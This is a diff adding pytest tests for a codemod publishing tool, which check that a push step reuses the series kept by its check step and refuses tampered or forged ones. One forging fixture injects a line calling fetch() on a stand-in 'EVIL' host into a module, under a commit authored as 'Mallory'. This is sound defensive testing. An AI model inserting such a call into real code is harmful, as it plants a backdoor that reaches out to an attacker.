@@ -220,3 +220,124 @@ def test_a_publish_run_loads_nothing_that_runs_the_checkouts_code(tmp_path: Path
     assert exit_line == "exit 0", out.stdout + out.stderr
     assert "codemods.publish.artifact" in modules.split()
     assert not {m for m in modules.split() if m.startswith("codemods.checks")}, modules
+
+
+# --- one build per job: the check step keeps, the push step pushes (issue 30) ---
+
+KEPT = "refs/mesh-codemod/publish"
+
+
+def _counting_builds(monkeypatch) -> list[str]:
+    """Every series built in this process, by base (the publish side's
+    rebuild and the branch check's rebuilds of other bases alike)."""
+    from codemods.deliver import branches
+    from codemods.deliver import build as series
+
+    built: list[str] = []
+    real = series.build_series
+
+    def counted(repo, base_rev, *args, **kwargs):
+        built.append(base_rev)
+        return real(repo, base_rev, *args, **kwargs)
+
+    monkeypatch.setattr(series, "build_series", counted)
+    monkeypatch.setattr(branches, "build_series", counted)
+    return built
+
+
+def _push_built(clone: Path, report: Path, *extra: str):
+    return invoke("publish", "--repo", clone, "--built", report, "--branch", BRANCH, "--target", "origin/main",
+                  "--push", "origin", "--author", BOT, "--report-out", report, *extra)
+
+
+def test_the_push_step_pushes_the_kept_series_without_building_again(tmp_path: Path, monkeypatch) -> None:
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    clone = publisher(tmp_path, remote)
+    built = _counting_builds(monkeypatch)
+    report = tmp_path / "report.json"
+    checked = invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH, "--target",
+                     "origin/main", "--author", BOT, "--report-out", report)
+    assert checked.exit_code == 0, checked.output
+    data = json.loads(report.read_text())
+    assert len(built) == 1 and git(clone, "rev-parse", KEPT).strip() == data["tip"]
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""  # no --push: kept, not pushed
+    pushed = _push_built(clone, report)
+    assert pushed.exit_code == 0, pushed.output
+    assert len(built) == 1, built  # not built again
+    assert "not rebuilt" in pushed.stderr
+    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == data["tip"] == manifest(artifact)["tip"]
+    out = json.loads(report.read_text())
+    assert out["push"]["pushed"] is True and out["fingerprint"] == data["fingerprint"] and out["body"] == data["body"]
+    again = _push_built(clone, report)  # a rerun of the push step: up to date
+    assert again.exit_code == 0 and json.loads(report.read_text())["push"]["pushed"] is False
+    assert len(built) == 1
+
+
+def _move_kept(clone: Path, report: Path, how: str) -> None:
+    from .publish_support import commit, tool_message
+
+    data = json.loads(report.read_text())
+    tip = data["tip"]
+    if how == "missing":
+        git(clone, "update-ref", "-d", KEPT)
+    elif how == "base":
+        git(clone, "update-ref", KEPT, data["base"])
+    elif how == "report-fingerprint":
+        data["fingerprint"] = "sha256:" + "1" * 64
+    elif how in ("forged", "forged-as-someone-else"):
+        # a commit with a line of its own, under the tool's trailers; the
+        # report's tip and commits made to match, its fingerprint left alone
+        parent = git(clone, "rev-parse", f"{tip}^").strip()
+        evil = clone.parent / "evil"
+        git(clone, "worktree", "add", "-q", "--detach", str(evil), tip)
+        append(MODULE, f'fetch("https://{EVIL}/");\n')(evil)
+        git(evil, "add", "-A")
+        tree = git(evil, "write-tree").strip()
+        parent_tree = git(clone, "rev-parse", f"{parent}^{{tree}}").strip()
+        who = {"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "m@example.com"} if how.endswith("else") else {}
+        sha = commit(clone, tree, [parent], tool_message(clone, tip, parent_tree, tree), env=who)
+        git(clone, "update-ref", KEPT, sha)
+        data["tip"] = sha
+        data["commits"][-1]["sha"] = sha
+    report.write_text(json.dumps(data))
+
+
+@pytest.mark.parametrize(
+    ("how", "refused"),
+    [
+        ("missing", f"{KEPT} is missing"),
+        ("base", "the report's series ends at"),
+        ("report-fingerprint", "is not the report's"),
+        ("forged", "is not the report's"),
+        ("forged-as-someone-else", "is not a commit publish made"),
+    ],
+)
+def test_the_push_step_refuses_a_kept_series_that_is_not_the_reports(
+    tmp_path: Path, monkeypatch, how: str, refused: str
+) -> None:
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    clone = publisher(tmp_path, remote)
+    report = tmp_path / "report.json"
+    checked = invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH, "--target",
+                     "origin/main", "--author", BOT, "--report-out", report)
+    assert checked.exit_code == 0, checked.output
+    _move_kept(clone, report, how)
+    built = _counting_builds(monkeypatch)
+    result = _push_built(clone, report)
+    assert result.exit_code == 3, result.output
+    assert "the kept series is refused" in result.stderr and refused in result.stderr, result.stderr
+    assert "nothing pushed" in result.stderr
+    assert built == []  # nothing rebuilt in its place
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+
+
+def test_publish_built_needs_a_push_and_no_artifact(tmp_path: Path) -> None:
+    report = tmp_path / "report.json"
+    report.write_text("{}")
+    for extra in ((), ("--artifact", str(tmp_path))):
+        args = ["publish", "--repo", tmp_path, "--built", report, "--branch", BRANCH, "--target", "origin/main"]
+        result = invoke(*args, *(("--push", "origin") if extra else ()), *extra)
+        assert result.exit_code == 2, result.output
+    assert invoke("publish", "--repo", tmp_path, "--branch", BRANCH, "--target", "origin/main").exit_code == 2
